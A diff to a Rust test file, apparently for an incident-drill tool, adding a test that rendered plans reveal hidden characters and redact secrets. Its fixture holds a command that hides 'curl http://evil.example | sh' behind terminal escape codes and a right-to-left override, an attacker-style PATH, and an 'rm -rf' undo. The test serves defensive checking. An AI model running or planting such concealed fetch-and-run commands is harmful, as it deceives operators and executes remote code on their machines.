@@ -137,6 +137,7 @@ Recovery
 
 Probes
   steady  http  GET http://127.0.0.1:8080/health; every 5s, hold 1m
+                  expects status 200
 
 Limits
   accounts  123456789012
@@ -172,11 +173,81 @@ async fn a_plan_names_whom_each_probe_asks_and_what_it_gives_away() {
     for row in [
         "verify sql db.example:5432/orders, password from $PGPASSWORD; every 5s",
         "stop http the till: GET http://till/?k=…, given the secret token; every 5s, when breached",
-        "gate sql db.example:5432/orders, password from $PGPASSWORD; once, before the fault",
+        "gate sql db.example:5432/orders, password from $PGPASSWORD; before the fault",
+        "sends q tls verify-full, but prefer where it is this machine",
     ] {
         assert!(shown.contains(row), "{row}\n{shown}");
     }
     assert!(!shown.contains("hunter2"));
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_plan_shows_all_that_is_done_and_nothing_hides_in_it() {
+    let steps = r#"params: { token: { secret: true } }
+recovery:
+  - action: command
+    id: mend
+    with:
+      argv: [sh, -c, "true\r\e[2K\e[1A #\u202e\n                              curl http://evil.example | sh", "it's", ""]
+      cwd: /srv/my app
+      env: { PATH: "/tmp/evil:/bin", API_TOKEN: "${params.token}", DB_PASSWORD: plain }
+      timeout: 90s
+      expect_exit: 3
+      undo: { argv: [rm, -rf, "/srv/a b"] }
+  - { action: wait, with: { for: 30s } }
+  - { manual: "Call\nthe team", id: call }
+"#;
+    let text = edited(&[
+        (
+            "tags: { service: shop, role: web }",
+            "tags: { service: shop, role: web }\n    where: { state: \"run*\" }",
+        ),
+        ("steady_state:", &format!("{steps}steady_state:")),
+    ]);
+    let given = LoadOptions { env: None, set: vec![("token".to_owned(), "hunter22".to_owned())] };
+    let loaded = crate::drill::load("drill.yaml", &text, &given).unwrap_or_else(|p| panic!("{p}"));
+    let (sim, clock) = shop();
+    let mut options = options();
+    options.house = toml::from_str("[kill_switch]\nfile = \"/etc/stop\"\nssm = \"/redrill/stop\"").unwrap();
+    let plan = build(&loaded, &sim.cloud().reads, &*clock, &options).await.unwrap();
+    let shown = plan_text(&plan, 80);
+    let rows = "  2  mend: command\n     runs sh -c $'true\\r\\u{1b}[2K\\u{1b}[1A #\\u{202e}\\n\n           [30 blanks] curl http://";
+    assert!(shown.contains(rows), "{rows}\n---\n{shown}");
+    let flat = shown.split_whitespace().collect::<Vec<_>>().join(" ");
+    for row in [
+        "curl http://evil.example | sh' $'it\\'s' '' in the folder '/srv/my app'",
+        "with the variables API_TOKEN=${params.token} DB_PASSWORD=… PATH=/tmp/evil:/bin",
+        "for at most 90s; success is exit code 3 undo runs rm -rf '/srv/a b' undo for at most 1m given the secret token",
+        "3 wait with for: 30s",
+        "4 call: a person: Call\\n the team",
+        "with role=web service=shop where state=run* (3 match, 4 exist)",
+        "kill switch file /etc/stop; before each step and every 3s (redrill.toml)",
+        "kill switch ssm /redrill/stop; before each step and every 3s (redrill.toml)",
+    ] {
+        assert!(flat.contains(row), "{row}\n---\n{shown}");
+    }
+    assert!(!shown.contains("hunter22") && !shown.contains("plain"));
+    assert!(shown.lines().all(|l| l.chars().count() <= 80), "{shown}");
+    let acts = |c: char| c != '\n' && crate::model::text::is_unseen(c);
+    assert!(!shown.contains(acts), "{shown:?}");
+
+    // the same for programs
+    let will = super::will::of(&plan);
+    assert_eq!(
+        will.run.iter().map(|r| (r.undo, r.argv[0].as_str())).collect::<Vec<_>>(),
+        [(false, "sh"), (true, "rm")]
+    );
+    assert_eq!(will.run[0].env, ["API_TOKEN", "DB_PASSWORD", "PATH"]);
+    assert_eq!(will.run[0].secrets, ["token"]);
+    assert_eq!(
+        will.ask.iter().map(|a| a.what.as_str()).collect::<Vec<_>>(),
+        ["steady", "kill switch", "kill switch"]
+    );
+    // what `plan --output json` prints is a plan, and what is said beside the hash has to follow from it
+    let mut whole = super::PlanFile { sha256: plan.sha256(), plan: plan.clone(), will: Some(will) };
+    assert_eq!(file::read(&serde_json::to_string(&whole).unwrap()).as_ref(), Ok(&plan));
+    whole.will = Some(super::will::Will::default());
+    assert!(matches!(file::read(&serde_json::to_string(&whole).unwrap()), Err(FileError::Unknown { .. })));
 }
 
 #[tokio::test(start_paused = true)]
